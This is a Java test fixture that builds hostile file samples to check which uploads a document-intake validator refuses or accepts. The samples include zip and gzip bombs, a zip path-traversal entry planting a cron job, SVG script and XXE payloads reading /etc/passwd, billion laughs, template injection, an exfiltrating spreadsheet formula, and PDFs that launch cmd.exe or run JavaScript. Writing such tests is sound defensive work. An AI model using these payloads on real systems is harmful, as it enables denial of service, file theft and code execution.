package onewindow.product;

import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Files that are no papers: by what they are, in words. */
final class HostileFiles {

  private static final byte[] ZEROS = new byte[20_000_000];
  private static final byte[] JPEG = {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF, (byte) 0xE0, 0, 16, 'J', 'F', 'I', 'F', 0};

  private HostileFiles() {}

  /** Not taken: what they are is not accepted. */
  static Map<String, byte[]> refused() {
    Map<String, byte[]> files = new LinkedHashMap<>();
    files.put("a zip bomb", zip("a", ZEROS));
    files.put("a zip bomb as a text document", zip("[Content_Types].xml", bytes("<Types/>"),
        "word/document.xml", ZEROS));
    files.put("a zip bomb as a table", zip("[Content_Types].xml", bytes("<Types/>"), "xl/workbook.xml", ZEROS));
    files.put("a zip bomb as a program", zip("META-INF/MANIFEST.MF", bytes("Main-Class: X\n"), "X.class", ZEROS));
    files.put("a zip bomb in a zip bomb", zip("a.zip", zip("b.zip", zip("c", ZEROS))));
    files.put("a zip with a way out", zip("../../../etc/cron.d/x", bytes("* * * * * root id")));
    files.put("a gzip bomb", gzip(ZEROS));
    files.put("a drawing that runs",
        bytes("<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"));
    files.put("a drawing with an entity", bytes("<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY e SYSTEM"
        + " \"file:///etc/passwd\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&e;</text></svg>"));
    files.put("a billion laughs", bytes("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY a \"ha\">"
        + "<!ENTITY b \"&a;&a;&a;\">]><a>&b;</a>"));
    files.put("a page", bytes("<!DOCTYPE html><script>fetch('/api/cases')</script>"));
    files.put("a page in another encoding", "<!DOCTYPE html><script>1</script>".getBytes(UTF_16LE));
    files.put("a page that claims to be a PDF later",
        bytes("<html><script>1</script>" + " ".repeat(2000) + "%PDF-1.7"));
    files.put("a program for Windows", bytes("MZ\u0090\u0000\u0003\u0000\u0000\u0000\u0004"));
    files.put("a program for Linux", new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 62, 0});
    files.put("a class of Java", new byte[] {(byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE, 0, 0, 0, 61});
    files.put("objects of Java", new byte[] {(byte) 0xAC, (byte) 0xED, 0, 5, 's', 'r'});
    files.put("a script", bytes("#!/bin/sh\nid"));
    files.put("a template that calls", bytes("{{7*7}}${7*7}<%= 7*7 %>"));
    files.put("a formula", bytes("=HYPERLINK(\"http://x/?\"&A1)"));
    files.put("PostScript", bytes("%!PS-Adobe-3.0\n(/etc/passwd) (r) file"));
    files.put("a metafile", bytes("\u0001\u0000\u0009\u0000\u0000\u0003"));
    files.put("an old text document", new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1,
        0x1A, (byte) 0xE1});
    files.put("an animated picture", bytes("GIF89a\u0001\u0000\u0001\u0000"));
    files.put("nothing but zeros", new byte[5000]);
    files.put("one sign", bytes("%"));
    files.put("a PDF that runs a script", pdf("<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"));
    files.put("a PDF that starts a program", pdf("<</OpenAction<</S/Launch/F(cmd.exe)>>>>"));
    files.put("a PDF that says so otherwise", pdf("<</AA<</O<</S/J#61vaScr#69pt/JS(1)>>>>>>"));
    files.put("a PDF that says so far behind", pdf(" ".repeat(300_000) + "<</S /Launch >>"));
    files.put("a PDF that says so between two chunks", pdf(" ".repeat(64 * 1024 - 22) + "<</S/JavaScript/JS(1)>>"));
    return files;
  }

  /** Taken, since they are what may be sent; the rest of them is for nobody to run. */
  static Map<String, byte[]> taken() {
    Map<String, byte[]> files = new LinkedHashMap<>();
    files.put("a picture as wide as the world", png(Integer.MAX_VALUE, Integer.MAX_VALUE));
    files.put("a picture without a size", png(0, 0));
    files.put("a picture with an archive behind it", both(JPEG, zip("X.class", new byte[100])));
    files.put("a picture with a page in it", both(JPEG, bytes("<script>alert(1)</script>")));
    files.put("a PDF with a page in it", pdf("<html><script>alert(1)</script></html>"));
    files.put("a PDF that only speaks of scripts", pdf("(/JavaScripting and /LaunchPad)"));
    files.put("a broken PDF", bytes("%PDF-1.7\n"));
    return files;
  }

  private static byte[] pdf(String content) {
    return bytes("%PDF-1.7\n1 0 obj" + content + "endobj\n%%EOF\n");
  }

  private static byte[] png(int width, int height) {
    return ByteBuffer.allocate(33).put(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'}).putInt(13)
        .put(bytes("IHDR")).putInt(width).putInt(height).put(new byte[] {8, 6, 0, 0, 0}).putInt(0).array();
  }

  private static byte[] both(byte[] first, byte[] second) {
    byte[] both = Arrays.copyOf(first, first.length + second.length);
    System.arraycopy(second, 0, both, first.length, second.length);
    return both;
  }

  private static byte[] bytes(String text) {
    return text.getBytes(UTF_8);
  }

  private static byte[] zip(Object... namesAndContents) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(out)) {
      for (int i = 0; i < namesAndContents.length; i += 2) {
        zip.putNextEntry(new ZipEntry((String) namesAndContents[i]));
        zip.write((byte[]) namesAndContents[i + 1]);
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }

  private static byte[] gzip(byte[] content) {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(out)) {
      gzip.write(content);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return out.toByteArray();
  }
}
